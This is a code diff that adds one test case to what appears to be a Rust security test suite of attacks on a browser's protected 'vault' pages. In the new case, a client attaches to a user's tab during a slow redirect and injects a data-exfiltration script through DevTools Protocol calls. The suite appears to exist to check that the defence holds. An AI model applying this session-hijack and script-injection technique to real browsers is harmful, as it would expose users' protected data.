@@ -39,6 +39,7 @@ pub fn all() -> Vec<Attack> {
         A::new("c2.inflight-set-document-content", "a slow ordinary redirect to the vault, attached during the hop: Page.setDocumentContent once it commits", inflight_set_document_content).tries(2),
         A::new("c2.inflight-file-input", "a slow ordinary redirect to the vault, attached during the hop: DOM.setFileInputFiles on its file input", inflight_file_input).tries(2),
         A::new("c2.inflight-user-navigation", "the user's ordinary tab is navigating to a slow vault page when the client attaches, with an init script", inflight_user_navigation).tries(3),
+        A::new("c2.inflight-user-hop", "the user's ordinary tab follows a slow ordinary redirect to the vault; the client attaches during the hop, with an init script", inflight_user_hop).tries(3),
         A::new("c2.own-page-slow-redirect", "the client's own attached page follows a slow redirect to the vault", own_page_slow_redirect).tries(3),
         A::new("c2.sw-navigation", "the client's page navigates to a page the vault's service worker answers, with an init script", sw_navigation).tries(3),
         A::new("c2.sw-page-navigate", "Page.navigate to a page the vault's service worker answers", sw_page_navigate),
@@ -2553,5 +2554,39 @@ fn inflight_user_navigation(ctx: &Ctx) -> Res {
         Some(&s),
     );
     ctx.exfil_loop(&s, 4000);
+    ctx.exfiltrated(2000)
+}
+
+fn inflight_user_hop(ctx: &Ctx) -> Res {
+    let start = ctx.url("http://ordinary.test", "/page");
+    let tab = ctx.user_open(&start)?;
+    let us = ctx.user_session(&tab)?;
+    // The user follows a link to an ordinary page that redirects to the vault after 2 s.
+    let hop = format!(
+        "http://ordinary.test/hop?ms=2000&t={}&to={}",
+        ctx.tag,
+        encode(&ctx.vault("/app"))
+    );
+    let _ = ctx.obs().send(
+        "Runtime.evaluate",
+        json!({"expression": format!("location.href = {}; true", json!(hop))}),
+        Some(&us),
+    );
+    let _ = ctx
+        .obs()
+        .send("Target.detachFromTarget", json!({"sessionId": us}), None);
+    ctx.app()
+        .wait(Duration::from_secs(3), |h| {
+            h.path() == "/hop" && h.target.contains(&ctx.tag)
+        })
+        .ok_or_else(|| Stop::Setup("the hop was never requested".into()))?;
+    let s = ctx.attach(&tab)?;
+    let _ = ctx.send("Page.enable", json!({}), Some(&s));
+    let _ = ctx.send(
+        "Page.addScriptToEvaluateOnNewDocument",
+        json!({"source": ctx.exfil_js()}),
+        Some(&s),
+    );
+    ctx.exfil_loop(&s, 5000);
     ctx.exfiltrated(2000)
 }
